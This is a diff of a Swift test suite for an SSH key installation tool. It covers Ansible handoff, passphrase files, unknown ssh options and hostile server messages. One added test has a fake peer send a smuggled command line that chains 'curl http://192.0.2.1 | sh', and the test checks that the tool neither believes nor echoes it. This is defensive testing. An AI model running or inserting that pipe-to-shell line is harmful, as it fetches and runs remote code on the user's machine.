@@ -133,8 +133,8 @@ struct InstallTests {
         #expect(login.errors.contains("its host key is not known on this computer yet"), "\(login.errors)")
     }
 
-    /// More than a handful goes to Ansible where that works, and to ssh where not.
-    @Test(arguments: ["works", "fails"]) func manyGoToAnsible(_ fate: String) throws {
+    /// Ansible does it if it is told to, and reads no configuration of the folder.
+    @Test(arguments: ["works", "fails", "is not asked"]) func manyGoToAnsible(_ fate: String) throws {
         let server = try makeServer()
         try place.makeFolder("bin")
         // The report that Ansible would give of nine servers, one name of which it can know only from the inventory.
@@ -142,23 +142,28 @@ struct InstallTests {
             fate == "fails"
             ? "echo \"ERROR! no such module\"; exit 4"
             : """
+            [ -e ansible.cfg ] && exit 5
             printf '{"plays":[{"tasks":[{"hosts":{'
             sed -n 's/^    "\\(.*\\)":$/"\\1":{"changed":true},/p' "$2" | tr -d '\\n' | sed 's/,$//'
             echo '}}]}]}'
             """
         try place.write("#!/bin/sh\n\(program)\n", to: "bin/ansible-playbook")
+        try place.write("[ssh_connection]\nssh_executable = /bin/false\n", to: "ansible.cfg")
         try place.run("chmod", "700", place.path("bin/ansible-playbook"))
         let closed = try freePort()
         let hosts = (1...8).flatMap { ["--host", "user\($0)@127.0.0.1:\(closed)"] } + ["--host", server.login.address]
+        let way = fate == "is not asked" ? [] : ["--with", "ansible"]
         let outcome = try place.attempt(
-            [Workplace.keywizard, "install", "id.pub", "--json"] + hosts + options,
+            [Workplace.keywizard, "install", "id.pub", "--json"] + way + hosts + options,
             environment: ["PATH": place.path("bin") + ":/usr/bin:/bin"])
+        guard fate != "fails" else {
+            #expect(outcome.status == 1 && outcome.errors.contains("no such module"), "\(outcome.errors)")
+            return
+        }
         let results = try outcome.decoded(as: [Result].self)
         #expect(results.count == 9)
-        #expect(outcome.errors.contains("handing 9 servers over to Ansible"))
         #expect(outcome.status == (fate == "works" ? 0 : 2), "\(outcome.errors)")
         #expect(results.count { $0.result == "added" } == (fate == "works" ? 9 : 1), "\(outcome.output)")
-        if fate == "fails" { #expect(outcome.errors.contains("no such module")) }
     }
 
     @Test func aPasswordIsAskedForOnTheTerminalAlone() throws {
@@ -179,6 +184,13 @@ struct InstallTests {
         #expect(with.output.contains("logging in to \(second.login.address)"))
         #expect(!with.output.contains("logging in to \(first.login.address)"))
         #expect(try read(second.authorizedKeys) == place.read("id.pub"))
+    }
+
+    @Test func anOptionThatSSHDoesNotKnowIsNotOverlooked() throws {
+        let server = try makeServer()
+        let outcome = try keywizard("install", "id.pub", "--host", server.login.address, "-o", "NoSuchOption=yes")
+        #expect(outcome.status == 1)
+        #expect(outcome.output.contains("Bad configuration option: nosuchoption"), "\(outcome.output)")
     }
 
     @Test func wrongUsage() throws {
@@ -250,6 +262,36 @@ struct InstallTests {
         #expect(with.status == 0, "\(with.errors)")
     }
 
+    @Test func aPassphraseFileOpensAKeyForSSHAlone() throws {
+        let server = try makeServer()
+        try place.makeKey("locked", "-t", "ed25519", passphrase: "battery staple")
+        server.authorize(try place.read("locked.pub"))
+        // The file beside the key is another key's, which doesn't matter to the agent.
+        try place.write(place.read("old.pub"), to: "locked.pub")
+        try place.write("battery staple\n", to: "pass")
+        let good = try keywizard("test", "locked", "--host", server.login.address, "--passphrase-file", "pass")
+        #expect(good.status == 0, "\(good.errors)")
+        try place.write("wrong\n", to: "pass")
+        let bad = try keywizard("test", "locked", "--host", server.login.address, "--passphrase-file", "pass")
+        #expect(bad.status == 1 && bad.errors.contains("passphrase"), "\(bad.errors)")
+    }
+
+    /// The two messages of a peer that never showed who it is, with a whole login in them.
+    @Test(arguments: [HostilePeer.disconnect, HostilePeer.debug])
+    func aLoginThatThePeerWroteIsNone(message: @Sendable (String) -> [UInt8]) throws {
+        let text = """
+            bye
+            debug1: Server accepts key: id ED25519 \(try place.fingerprint("id.pub")) explicit
+            Authenticated to h ([127.0.0.1]:22) using "publickey".
+            ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh
+            """
+        let port = HostilePeer.serve(message(text), HostilePeer.disconnect("end"))
+        let outcome = try keywizard("test", "id", "--host", "me@127.0.0.1:\(port)", "--json")
+        #expect(outcome.status == 1)
+        #expect(try !outcome.decoded(as: Tested.self).loggedIn)
+        #expect(!outcome.errors.contains("curl"), "\(outcome.errors)")
+    }
+
     @Test func whatSSHCanNotReadIsSaid() throws {
         try place.run("puttygen", place.path("id"), "-O", "private", "-o", place.path("id.ppk"))
         let putty = try keywizard("test", "id.ppk", "--host", "me@127.0.0.1")
@@ -258,5 +300,14 @@ struct InstallTests {
         #expect(
             try keywizard("test", "id.pub", "--host", "me@127.0.0.1").errors.contains("name the private key's file"))
         #expect(try keywizard("test", "id", "--host", "me@-bad").status == 64)
+        // ssh-add doesn't take what OpenSSH has no name for.
+        try place.run(
+            "openssl", "genpkey", "-algorithm", "ed448", "-aes256", "-pass", "pass:x", "-out", place.path("ed448"))
+        try place.write("x\n", to: "pass")
+        let ed448 = try keywizard("test", "ed448", "--host", "me@127.0.0.1", "--passphrase-file", "pass")
+        #expect(ed448.status == 1 && ed448.errors.contains("OpenSSH has no Ed448 keys"), "\(ed448.errors)")
+        #expect(!ed448.errors.contains("ssh-add"))
+        try place.run("cp", place.path("id"), place.path("${x}"))
+        #expect(try keywizard("test", "${x}", "--host", "me@127.0.0.1").errors.contains("can't be given this path"))
     }
 }
